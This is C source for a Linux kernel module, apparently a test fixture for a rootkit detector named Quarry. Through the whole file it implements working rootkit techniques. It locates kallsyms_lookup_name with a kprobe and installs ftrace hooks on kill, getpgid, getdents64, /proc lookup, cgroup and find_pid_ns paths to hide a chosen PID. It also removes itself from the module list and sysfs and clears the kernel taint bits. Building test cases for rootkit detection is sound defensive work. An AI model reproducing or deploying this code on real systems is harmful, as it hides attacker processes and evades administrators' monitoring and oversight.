// SPDX-License-Identifier: GPL-2.0
/*
 * qtest_ftrace: a harmless test module for Quarry's VM test (tests/vm/run.sh).
 *
 * It imitates what current public LKM rootkits for 5.x/6.x kernels do, so
 * that Quarry can be tested against the real traces they leave. Written for
 * Debian's 6.1 kernel on x86_64; only ever loaded inside a throw-away QEMU
 * guest. It can never be unloaded (it unlinks itself).
 *
 * How it hooks: `kallsyms_lookup_name` is found with a kprobe (register one
 * on it, read kp.addr, unregister), every target is found through it, and
 * each target gets its own ftrace_ops (SAVE_REGS | RECURSION | IPMODIFY)
 * filtered to that one address. The ftrace callback moves regs->ip to the
 * replacement unless the call comes from this module (the replacement calls
 * the original through a pointer to the original address, which passes the
 * ftrace callback a second time with parent_ip inside this module). That
 * call must be a real call, not a tail call: the Makefile builds this file
 * with -fno-optimize-sibling-calls.
 *
 * Parameters:
 *   hide_pid=N  the PID to hide (mode 1: the thread group N; mode 2: PID N)
 *   mode=1      syscall-level lies:
 *                 __x64_sys_kill, __x64_sys_getpgid, __x64_sys_getsid,
 *                 __x64_sys_sched_getaffinity, __x64_sys_pidfd_open
 *                   -> -ESRCH for the hidden thread group;
 *                 proc_pid_lookup -> -ENOENT for /proc/N, and
 *                 pid_revalidate  -> 0 for an already cached /proc/N dentry
 *                   (readdir of /proc instantiates the dentries of every PID
 *                   without calling proc_pid_lookup, so hooking the lookup
 *                   alone would leave /proc/N openable after an `ls /proc`);
 *                 __x64_sys_getdents64 -> entry "N" removed from listings of
 *                   procfs directories;
 *                 cgroup_procs_show -> the hidden tasks skipped
 *                   (cgroup.procs, cgroup.threads, v1 tasks);
 *                 vmalloc_op.show (s_show of /proc/vmallocinfo) -> the area
 *                   holding this module's core (core_layout.base) skipped.
 *   mode=2      PID lookup only: find_pid_ns (and, because it is inlined
 *               into them on 6.1, find_vpid, find_task_by_pid_ns and
 *               find_task_by_vpid) return NULL for N and for the module's
 *               own kernel thread (qtest_kworker), in the initial PID
 *               namespace, and pid_revalidate -> 0 for a cached /proc/N
 *               (as in mode 1). The /proc listing (find_ge_pid/idr_get_next)
 *               still shows both PIDs; /proc/N, kill and getpgid fail.
 * In both modes it then hides itself: list_del_init(&THIS_MODULE->list),
 * kobject_del(&THIS_MODULE->mkobj.kobj) (its /sys/module entry), and clears
 * the O and E bits of tainted_mask.
 *
 * It prints one "qtest_ftrace: ..." summary line to the kernel log (mode 2:
 * with the kernel thread's PID), which the test's /init reads.
 */
#include <linux/dcache.h>
#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/err.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/list.h>
#include <linux/magic.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/ptrace.h>
#include <linux/sched.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "PID to hide");

static int mode = 1;
module_param(mode, int, 0444);
MODULE_PARM_DESC(mode, "1: syscall-level hooks, 2: find_pid_ns hook only");

/* The hidden PID as a /proc directory name. */
static char hide_name[16];
/* mode 2: the module's own kernel thread, hidden as well. */
static struct task_struct *kworker;
static int kworker_pid;

static unsigned long (*qt_lookup_name)(const char *name);

static int qt_find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err < 0)
		return err;
	qt_lookup_name = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	return qt_lookup_name ? 0 : -ENOENT;
}

/* ---- the ftrace hooking ------------------------------------------------ */

struct qt_hook {
	const char *name;	/* symbol, for the log */
	void *replacement;
	void **orig;		/* where the original's address goes */
	unsigned long addr;	/* the target; 0 = look `name` up */
	struct ftrace_ops ops;
	bool live;
};

static void notrace qt_thunk(unsigned long ip, unsigned long parent_ip,
			     struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct qt_hook *h = container_of(op, struct qt_hook, ops);
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!regs)
		return;
	/* Calls from the replacement itself run the original. */
	if (within_module(parent_ip, THIS_MODULE))
		return;
	regs->ip = (unsigned long)h->replacement;
}

static int qt_hook_install(struct qt_hook *h)
{
	int err;

	if (!h->addr)
		h->addr = qt_lookup_name(h->name);
	if (!h->addr) {
		pr_warn("qtest_ftrace: %s not found\n", h->name);
		return -ENOENT;
	}
	*h->orig = (void *)h->addr;
	h->ops.func = qt_thunk;
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
		       FTRACE_OPS_FL_IPMODIFY;
	err = ftrace_set_filter_ip(&h->ops, h->addr, 0, 0);
	if (err) {
		pr_warn("qtest_ftrace: ftrace_set_filter_ip(%s): %d\n", h->name, err);
		return err;
	}
	err = register_ftrace_function(&h->ops);
	if (err) {
		pr_warn("qtest_ftrace: register_ftrace_function(%s): %d\n", h->name, err);
		ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
		return err;
	}
	h->live = true;
	return 0;
}

/* ---- mode 1: syscall-level lies ---------------------------------------- */

/* Is `nr` (a PID in the caller's namespace) a task of the hidden group? */
static bool qt_pid_hidden(long nr)
{
	struct task_struct *t;
	bool ret = false;

	if (hide_pid <= 0 || nr <= 0 || nr > INT_MAX)
		return false;
	if (nr == hide_pid)
		return true;
	rcu_read_lock();
	t = pid_task(find_vpid((int)nr), PIDTYPE_PID);
	if (t && t->tgid == hide_pid)
		ret = true;
	rcu_read_unlock();
	return ret;
}

static bool qt_name_hidden(const char *name)
{
	int nr;

	if (hide_pid <= 0 || !name || name[0] < '1' || name[0] > '9')
		return false;
	if (kstrtoint(name, 10, &nr))
		return false;
	return qt_pid_hidden(nr);
}

typedef long (*qt_syscall_t)(const struct pt_regs *regs);

#define QT_PID_SYSCALL(sym)						\
	static qt_syscall_t orig_##sym;					\
	static long qt_##sym(const struct pt_regs *regs)		\
	{								\
		if (qt_pid_hidden((long)(int)regs->di))			\
			return -ESRCH;					\
		return orig_##sym(regs);				\
	}

QT_PID_SYSCALL(__x64_sys_kill)
QT_PID_SYSCALL(__x64_sys_getpgid)
QT_PID_SYSCALL(__x64_sys_getsid)
QT_PID_SYSCALL(__x64_sys_sched_getaffinity)
QT_PID_SYSCALL(__x64_sys_pidfd_open)

static struct dentry *(*orig_proc_pid_lookup)(struct dentry *dentry,
					      unsigned int flags);

static struct dentry *qt_proc_pid_lookup(struct dentry *dentry, unsigned int flags)
{
	if (qt_name_hidden((const char *)dentry->d_name.name))
		return ERR_PTR(-ENOENT);
	return orig_proc_pid_lookup(dentry, flags);
}

static bool qt_fd_on_procfs(unsigned int fd)
{
	struct file *f = fget(fd);
	bool ret;

	if (!f)
		return false;
	ret = f->f_path.dentry->d_sb->s_magic == PROC_SUPER_MAGIC;
	fput(f);
	return ret;
}

/* Removes the entries named hide_name from buf[0..len); the new length. */
static long qt_filter_dirents(char *buf, long len)
{
	long off = 0;

	while (off < len) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + off);
		unsigned short reclen = d->d_reclen;

		if (reclen == 0 || off + reclen > len)
			break;
		if (strcmp(d->d_name, hide_name) == 0) {
			memmove(buf + off, buf + off + reclen, len - off - reclen);
			len -= reclen;
			continue;
		}
		off += reclen;
	}
	return len;
}

static qt_syscall_t orig___x64_sys_getdents64;

static long qt___x64_sys_getdents64(const struct pt_regs *regs)
{
	void __user *udirent = (void __user *)regs->si;
	long ret, len;
	char *buf;
	int rounds = 0;

again:
	ret = orig___x64_sys_getdents64(regs);
	if (ret <= 0 || hide_pid <= 0 || !qt_fd_on_procfs((unsigned int)regs->di))
		return ret;
	buf = kvmalloc(ret, GFP_KERNEL);
	if (!buf)
		return ret;
	if (copy_from_user(buf, udirent, ret)) {
		kvfree(buf);
		return ret;
	}
	len = qt_filter_dirents(buf, ret);
	if (len != ret && len > 0 && copy_to_user(udirent, buf, len))
		len = -EFAULT;
	kvfree(buf);
	/* The hidden entry was all this call returned: read on, or the
	 * caller would take the empty answer for the end of the directory. */
	if (len == 0 && ++rounds < 8)
		goto again;
	return len;
}

static int (*orig_cgroup_procs_show)(struct seq_file *s, void *v);

static int qt_cgroup_procs_show(struct seq_file *s, void *v)
{
	struct task_struct *t = v;

	if (hide_pid > 0 && t && t->tgid == hide_pid)
		return 0;
	return orig_cgroup_procs_show(s, v);
}

/* /proc/vmallocinfo's show(): `p` is the list_head of a struct vmap_area
 * (s_start/s_next walk vmap_area_list on 6.1). */
static int (*orig_vmalloc_show)(struct seq_file *m, void *p);

static int qt_vmalloc_show(struct seq_file *m, void *p)
{
	struct vmap_area *va = list_entry(p, struct vmap_area, list);

	if (va->vm && va->vm->addr == THIS_MODULE->core_layout.base)
		return 0;
	return orig_vmalloc_show(m, p);
}

#define QT_HOOK(sym) { .name = #sym, .replacement = qt_##sym, .orig = (void **)&orig_##sym }

static bool qt_nr_hidden(int nr, struct pid_namespace *ns);
static int qt_pid_revalidate(struct dentry *dentry, unsigned int flags);
static int (*orig_pid_revalidate)(struct dentry *dentry, unsigned int flags);

static struct qt_hook mode1_hooks[] = {
	QT_HOOK(__x64_sys_kill),
	QT_HOOK(__x64_sys_getpgid),
	QT_HOOK(__x64_sys_getsid),
	QT_HOOK(__x64_sys_sched_getaffinity),
	QT_HOOK(__x64_sys_pidfd_open),
	QT_HOOK(proc_pid_lookup),
	QT_HOOK(pid_revalidate),
	QT_HOOK(__x64_sys_getdents64),
	QT_HOOK(cgroup_procs_show),
	/* .addr filled in from vmalloc_op->show */
	{ .name = "vmalloc_op.show", .replacement = qt_vmalloc_show,
	  .orig = (void **)&orig_vmalloc_show },
};

/* ---- mode 2: PID lookup only ------------------------------------------- */

/* On Debian's 6.1 find_pid_ns is inlined into the other lookups of
 * kernel/pid.c (find_vpid, find_task_by_pid_ns, find_task_by_vpid), so the
 * find_pid_ns hook alone misses kill (find_vpid), getpgid/getsid
 * (find_task_by_vpid) and /proc/PID (find_task_by_pid_ns): those three are
 * hooked too. find_ge_pid (the /proc readdir walk) is left alone. */
static bool qt_nr_hidden(int nr, struct pid_namespace *ns)
{
	return nr > 0 && ns == &init_pid_ns &&
	       (nr == hide_pid || (kworker_pid && nr == kworker_pid));
}

static struct pid *(*orig_find_pid_ns)(int nr, struct pid_namespace *ns);

static struct pid *qt_find_pid_ns(int nr, struct pid_namespace *ns)
{
	if (qt_nr_hidden(nr, ns))
		return NULL;
	return orig_find_pid_ns(nr, ns);
}

static struct pid *(*orig_find_vpid)(int nr);

static struct pid *qt_find_vpid(int nr)
{
	if (qt_nr_hidden(nr, task_active_pid_ns(current)))
		return NULL;
	return orig_find_vpid(nr);
}

static struct task_struct *(*orig_find_task_by_pid_ns)(pid_t nr,
						       struct pid_namespace *ns);

static struct task_struct *qt_find_task_by_pid_ns(pid_t nr, struct pid_namespace *ns)
{
	if (qt_nr_hidden(nr, ns))
		return NULL;
	return orig_find_task_by_pid_ns(nr, ns);
}

static struct task_struct *(*orig_find_task_by_vpid)(pid_t nr);

static struct task_struct *qt_find_task_by_vpid(pid_t nr)
{
	if (qt_nr_hidden(nr, task_active_pid_ns(current)))
		return NULL;
	return orig_find_task_by_vpid(nr);
}

/* Both modes: readdir of /proc instantiates (and caches) a dentry for every
 * PID without calling the lookup, and a cached /proc/N is only revalidated
 * (pid_revalidate checks that its task is alive), so after an `ls /proc`
 * /proc/N would open again despite the lookup hooks. Declaring the cached
 * /proc/N dentry stale sends the next open to the (hooked) lookup. */
static int qt_pid_revalidate(struct dentry *dentry, unsigned int flags)
{
	const char *name;
	int nr;

	/* Only /proc/N itself (its parent is the procfs root). */
	if (READ_ONCE(dentry->d_parent) != dentry->d_sb->s_root)
		goto orig;
	name = (const char *)READ_ONCE(dentry->d_name.name);
	if (mode == 1) {
		if (qt_name_hidden(name))
			return 0;
	} else if (name[0] >= '1' && name[0] <= '9' && !kstrtoint(name, 10, &nr) &&
		   qt_nr_hidden(nr, &init_pid_ns)) {
		return 0;
	}
orig:
	return orig_pid_revalidate(dentry, flags);
}

static struct qt_hook mode2_hooks[] = {
	QT_HOOK(find_pid_ns),
	QT_HOOK(find_vpid),
	QT_HOOK(find_task_by_pid_ns),
	QT_HOOK(find_task_by_vpid),
	QT_HOOK(pid_revalidate),
};

static int qt_kworker_fn(void *data)
{
	while (!kthread_should_stop())
		msleep_interruptible(1000);
	return 0;
}

/* ---- init -------------------------------------------------------------- */

static int qt_install_all(struct qt_hook *hooks, int n)
{
	int i, ok = 0;

	for (i = 0; i < n; i++)
		if (qt_hook_install(&hooks[i]) == 0)
			ok++;
	return ok;
}

static void qt_hide_self(void)
{
	unsigned long *taint;

	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	taint = (unsigned long *)qt_lookup_name("tainted_mask");
	if (taint) {
		clear_bit(TAINT_OOT_MODULE, taint);
		clear_bit(TAINT_UNSIGNED_MODULE, taint);
	}
}

static int __init qtest_ftrace_init(void)
{
	int err, ok, n;

	if (mode != 1 && mode != 2) {
		pr_err("qtest_ftrace: mode must be 1 or 2\n");
		return -EINVAL;
	}
	err = qt_find_lookup_name();
	if (err) {
		pr_err("qtest_ftrace: no kallsyms_lookup_name: %d\n", err);
		return err;
	}
	snprintf(hide_name, sizeof(hide_name), "%d", hide_pid);

	if (mode == 1) {
		struct seq_operations *vop =
			(struct seq_operations *)qt_lookup_name("vmalloc_op");

		if (vop)
			mode1_hooks[ARRAY_SIZE(mode1_hooks) - 1].addr =
				(unsigned long)vop->show;
		else
			pr_warn("qtest_ftrace: vmalloc_op not found\n");
		n = ARRAY_SIZE(mode1_hooks);
		ok = qt_install_all(mode1_hooks, n);
		qt_hide_self();
		pr_info("qtest_ftrace: mode=1 hide_pid=%d hooks=%d/%d\n",
			hide_pid, ok, n);
	} else {
		kworker = kthread_run(qt_kworker_fn, NULL, "qtest_kworker");
		if (IS_ERR(kworker)) {
			pr_warn("qtest_ftrace: kthread_run: %ld\n", PTR_ERR(kworker));
			kworker = NULL;
		} else {
			kworker_pid = kworker->pid;
		}
		n = ARRAY_SIZE(mode2_hooks);
		ok = qt_install_all(mode2_hooks, n);
		qt_hide_self();
		pr_info("qtest_ftrace: mode=2 hide_pid=%d kthread_pid=%d hooks=%d/%d\n",
			hide_pid, kworker_pid, ok, n);
	}
	return 0;
}

/* Never runs: the module unlinks itself and cannot be unloaded. */
static void __exit qtest_ftrace_exit(void)
{
}

module_init(qtest_ftrace_init);
module_exit(qtest_ftrace_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Quarry test module: ftrace hooks that hide a PID, like current LKM rootkits");
